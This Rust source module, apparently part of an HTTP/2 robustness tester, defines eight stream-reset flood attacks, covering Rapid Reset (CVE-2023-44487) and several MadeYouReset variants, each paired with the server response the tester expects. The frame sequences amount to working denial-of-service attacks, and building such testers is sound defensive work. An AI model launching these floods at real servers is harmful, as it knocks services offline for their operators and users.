//! Streams that are opened to be reset: by the attacker, or by the server through provoked errors.

use super::attack::{Attack, ENHANCE_YOUR_CALM, Fate, STREAM_CLOSED};
use super::frames::{DATA, ECHO, END_HEADERS, END_STREAM, HEADERS, PRIORITY, WIDEST, stream};

pub(super) const ATTACKS: [Attack; 8] = [
    // CVE-2023-44487
    Attack::flood("rapid_reset", |frames, turn| {
        frames.head(stream(turn), ECHO);
        frames.reset(stream(turn));
    }),
    // Each costs the server a call, but no more than that.
    Attack::flood("reset_when_answered", |frames, turn| {
        frames.call(stream(turn), ECHO);
        frames.reset(stream(turn));
    })
    .with_opening(super::frames::Frames::open_windows)
    .with_bounded_fate(),
    // CVE-2025-8671: each of these makes the server reset the stream.
    Attack::flood("made_you_reset_window_zero", |frames, turn| {
        frames.head(stream(turn), ECHO);
        frames.window_update(stream(turn), 0);
    }),
    Attack::flood("made_you_reset_window_overflow", |frames, turn| {
        frames.head(stream(turn), ECHO);
        frames.window_update(stream(turn), WIDEST);
    }),
    // Late frames may also arrive after the stream was answered and closed (RFC 9113, section 5.1).
    Attack {
        fate: Fate::SentAway(&[ENHANCE_YOUR_CALM, STREAM_CLOSED]),
        ..Attack::flood("made_you_reset_half_closed", |frames, turn| {
            frames.frame(HEADERS, END_HEADERS | END_STREAM, stream(turn), ECHO);
            frames.frame(DATA, 0, stream(turn), b"late");
        })
    },
    Attack::flood("made_you_reset_priority", |frames, turn| {
        frames.head(stream(turn), ECHO);
        let [a, b, c, d] = stream(turn).to_be_bytes();
        frames.frame(PRIORITY, 0, stream(turn), &[a, b, c, d, 0]);
    }),
    Attack::flood("made_you_reset_content_length", |frames, turn| {
        const TOO_SHORT: &[u8] = b"\x0f\x0d\x011";
        frames.call(stream(turn), &[ECHO, TOO_SHORT].concat());
    }),
    // An interim response, which only servers send.
    Attack::flood("made_you_reset_interim", |frames, turn| {
        frames.head(stream(turn), b"\x08\x03103");
    }),
];
